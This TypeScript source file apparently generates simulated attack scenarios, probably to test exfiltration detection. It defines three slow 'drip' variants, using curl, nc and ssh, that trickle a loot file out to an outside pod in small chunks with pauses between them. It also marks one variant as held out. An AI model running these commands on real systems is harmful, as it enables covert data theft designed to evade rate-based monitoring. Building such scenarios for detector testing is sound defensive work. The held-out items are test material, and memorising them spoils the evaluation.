import { exfiltration, holder } from './data-exfiltration.ts'
import { accept, lootFile, tcp } from './plan.ts'
import type { Variant } from './plan.ts'

const AS_LONG_AS_IT_MAY = 3600

/** Data that leaves at less than a kilobyte a second, or a little at a time. */
export const DRIPS: readonly Variant[] = [
  {
    name: 'curl drip',
    heldOut: false,
    manner: 'slow',
    service: 'http',
    draw: (world) => {
      const { random, settings } = world
      const [attacker, outside] = [holder(world), world.pod('outside')]
      const file = lootFile(world, attacker, 300_000)
      const [bytes, gap] = [random.magnitude(100, 900), random.magnitude(8, 60) / 10]
      const command = `split -a 4 -b ${bytes} ${file} ${file}.; for f in ${file}.*; do curl -s -o /dev/null --data-binary @$f http://${outside.address}:${settings.appPort}/up; sleep ${gap}; done`
      return { ...exfiltration('curl drip', attacker, outside, [tcp(attacker, outside, [settings.appPort])], command, AS_LONG_AS_IT_MAY), rate: 1 / gap }
    },
  },
  {
    name: 'nc drip',
    heldOut: false,
    manner: 'slow',
    service: 'tcp',
    draw: (world) => {
      const { random } = world
      const [attacker, outside] = [holder(world), world.pod('outside')]
      const file = lootFile(world, attacker, 300_000)
      const port = random.pick([443, 4445, 53, 8081])
      const [bytes, gap] = [random.magnitude(60, 900), random.magnitude(10, 40) / 10]
      const command = `sleep 0.7; exec 3<${file}; (while head -c ${bytes} <&3; do sleep ${gap}; done) | nc -N -n ${outside.address} ${port}`
      return { ...exfiltration('nc drip', attacker, outside, [tcp(attacker, outside, [port])], command, AS_LONG_AS_IT_MAY, [{ pod: outside, command: `${accept(port)}exec nc -l -n -p ${port} >/dev/null` }]), rate: 1 / gap }
    },
  },
  {
    name: 'ssh drip',
    heldOut: true,
    manner: 'slow',
    service: 'ssh',
    draw: (world) => {
      const { random } = world
      const [attacker, outside] = [holder(world), world.pod('outside')]
      const file = lootFile(world, attacker, 300_000)
      const [bytes, gap] = [random.magnitude(100, 900), random.magnitude(10, 60) / 10]
      const command = `exec 3<${file}; (while head -c ${bytes} <&3; do sleep ${gap}; done) | ssh alice@${outside.address} 'cat > dripped'`
      return { ...exfiltration('ssh drip', attacker, outside, [tcp(attacker, outside, [22])], command, AS_LONG_AS_IT_MAY), rate: 1 / gap }
    },
  },
]
